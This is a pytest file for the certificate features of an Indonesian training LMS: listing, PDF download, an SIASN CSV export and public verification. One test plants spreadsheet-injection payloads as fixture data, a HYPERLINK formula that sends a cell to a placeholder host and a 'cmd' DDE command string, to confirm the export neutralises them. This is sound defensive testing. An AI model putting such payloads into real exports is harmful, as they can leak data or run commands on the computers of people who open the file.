import csv
import io
from datetime import datetime

import pypdf
from flask import session

from lms import clock
from lms.certificates import services
from lms.extensions import db
from lms.web.numbers import score
from tests.conftest import login
from tests.factories import make_certificate, make_user

NIP = "199004042015032004"


def _holder():
    return make_user("Siti Nur’aini", nip=NIP)


def test_my_certificates_need_sign_in(client):
    for path in ("/sertifikat", "/sertifikat/1.pdf", "/sertifikat/siasn.csv"):
        response = client.get(path)
        assert response.status_code == 302
        assert "/login" in response.headers["Location"]


def test_my_certificates_list(client):
    me = _holder()
    valid = make_certificate(me, title="Manajemen Waktu", jp=2, score=92.5)
    revoked = make_certificate(
        me, title="Manajemen Proyek", jp=4, completed_on=datetime(2026, 6, 14, 9, 0)
    )
    services.revoke(revoked, "Salah terbit", datetime(2026, 7, 1))
    make_certificate(make_user("Orang Lain"), title="Modul Orang Lain")
    db.session.commit()
    login(client, me)
    page = client.get("/sertifikat").get_data(as_text=True)
    assert valid.number in page and revoked.number in page
    assert "Manajemen Waktu" in page and "Manajemen Proyek" in page
    assert "Modul Orang Lain" not in page
    assert "28 November 2026" in page and "14 Juni 2026" in page
    assert "92,5" in page
    assert "Valid" in page and "Dicabut" in page
    assert f"/sertifikat/{valid.id}.pdf" in page
    assert f"/sertifikat/{revoked.id}.pdf" not in page
    assert "/sertifikat/siasn.csv" in page and "Unduh data untuk SIASN (CSV)" in page
    assert "2 sertifikat · 2 JP berlaku" in page


def test_empty_list_explains_how_certificates_are_earned(client):
    login(client, _holder())
    page = client.get("/sertifikat").get_data(as_text=True)
    assert "Anda belum memiliki sertifikat." in page
    assert "siasn.csv" not in page


def test_owner_downloads_the_pdf(app, client):
    app.config["PUBLIC_BASE_URL"] = "https://bina.jambiprov.go.id/"
    me = _holder()
    certificate = make_certificate(me)
    login(client, me)
    response = client.get(f"/sertifikat/{certificate.id}.pdf")
    assert response.status_code == 200
    assert response.mimetype == "application/pdf"
    disposition = response.headers["Content-Disposition"]
    assert disposition == 'attachment; filename="sertifikat-BINA-2026-000001.pdf"'
    assert "no-store" in response.headers["Cache-Control"]
    text = " ".join(pypdf.PdfReader(io.BytesIO(response.data)).pages[0].extract_text().split())
    assert f"https://bina.jambiprov.go.id/verify/{certificate.code}" in text
    assert "Siti Nur’aini" in text


def test_other_learners_unknown_and_revoked_pdfs_are_not_found(client):
    me, other = _holder(), make_user("Orang Lain")
    theirs = make_certificate(other)
    mine = make_certificate(me)
    services.revoke(mine, "Salah terbit", datetime(2026, 12, 1))
    db.session.commit()
    login(client, me)
    assert client.get(f"/sertifikat/{theirs.id}.pdf").status_code == 404
    assert client.get("/sertifikat/999999.pdf").status_code == 404
    assert client.get(f"/sertifikat/{mine.id}.pdf").status_code == 404


def test_siasn_csv(client):
    me = _holder()
    first = make_certificate(me, title="Manajemen Waktu", jp=2, completed_on=datetime(2026, 3, 4))
    second = make_certificate(me, title="Literasi Digital, Dasar", jp=3, score=77.4)
    revoked = make_certificate(me, title="Dicabut")
    services.revoke(revoked, "Salah terbit", datetime(2026, 12, 1))
    make_certificate(make_user("Orang Lain"), title="Modul Orang Lain")
    db.session.commit()
    login(client, me)
    response = client.get("/sertifikat/siasn.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[0] == [
        "NIP", "Nama", "Nama Pelatihan", "Jenis", "Tanggal Mulai", "Tanggal Selesai",
        "Jumlah JP", "Nomor Sertifikat", "Tahun", "Penyelenggara", "Nilai",
    ]  # fmt: skip
    assert len(rows) == 3
    assert rows[1] == [
        NIP,
        "Siti Nur’aini",
        "Manajemen Waktu",
        "Belajar Mandiri (e-learning)",
        clock.local_date(first.started_on).strftime("%d-%m-%Y"),
        "04-03-2026",
        "2",
        first.number,
        "2026",
        "BPSDM Provinsi Jambi",
        "85,0",
    ]
    assert rows[2][2] == "Literasi Digital, Dasar" and rows[2][7] == second.number
    assert rows[2][10] == "77,4"


def test_verify_is_public_and_shows_only_what_confirms_the_certificate(app, client):
    certificate = make_certificate(_holder(), title="Literasi Digital", jp=3, score=85)
    response = client.get(f"/verify/{certificate.code}")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Sertifikat valid" in page
    for shown in (
        "Siti Nur’aini",
        "1990**** ****** * 004",
        "Literasi Digital",
        "3 JP",
        "28 November 2026",
        "BPSDM Provinsi Jambi",
        certificate.number,
    ):
        assert shown in page, shown
    assert NIP not in page and "19900404" not in page
    assert "85,0" not in page  # the score is the learner's business
    assert "<script" not in page
    assert "noindex" in page
    assert app.view_functions["certificates.verify"].allowed_roles == ("anonymous",)


def test_verify_works_for_a_signed_in_stranger(client):
    certificate = make_certificate(_holder())
    login(client, make_user("Atasan Lain"))
    assert "Sertifikat valid" in client.get(f"/verify/{certificate.code}").get_data(as_text=True)


def test_verify_revoked_says_when_and_why(client):
    certificate = make_certificate(_holder())
    services.revoke(certificate, "SK Kepala BPSDM No. 800/12/2026", datetime(2026, 12, 5, 9, 0))
    db.session.commit()
    response = client.get(f"/verify/{certificate.code}")
    page = response.get_data(as_text=True)
    assert response.status_code == 200
    assert "Sertifikat ini telah DICABUT" in page and "5 Desember 2026" in page
    assert "Alasan: SK Kepala BPSDM No. 800/12/2026" in page
    assert "Sertifikat valid" not in page
    assert response.headers["Cache-Control"] == "no-cache"


def test_verify_unknown_code(client):
    certificate = make_certificate(_holder())
    for code in ("A" * 20, certificate.code[:-1], "bukan-kode"):
        response = client.get(f"/verify/{code}")
        page = response.get_data(as_text=True)
        assert response.status_code == 404
        assert "Sertifikat tidak valid / tidak ditemukan" in page
        assert "Siti Nur’aini" not in page


def test_the_siasn_csv_carries_no_formula(client):
    me = make_user('=HYPERLINK("http://x.test/?"&A1;"Klik")', nip=NIP)
    make_certificate(me, title="Rahma;=2+5+cmd|' /C calc'!A0")
    db.session.commit()
    login(client, me)
    response = client.get("/sertifikat/siasn.csv")
    assert response.headers["Cache-Control"].startswith("no-store")
    for separator in (",", ";"):
        text = response.data.decode("utf-8-sig")
        cells = [c for row in csv.reader(io.StringIO(text), delimiter=separator) for c in row]
        assert not [c for c in cells if c.strip(' "').startswith(("=", "+", "@"))]
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert rows[1][0] == NIP  # the NIP itself is untouched, all 18 digits
    assert rows[1][1] == '\'=HYPERLINK("http://x.test/?"&A1;"Klik")'
    assert rows[1][2] == "Rahma;'=2+5+cmd|' /C calc'!A0"


def test_scores_follow_the_reader_language(app):
    with app.test_request_context():
        session["lang"] = "en"
        assert score(72.5) == "72.5" and score(100.0) == "100" and score(None) == "–"
    with app.test_request_context():
        assert score(72.5) == "72,5" and score(85.04) == "85"
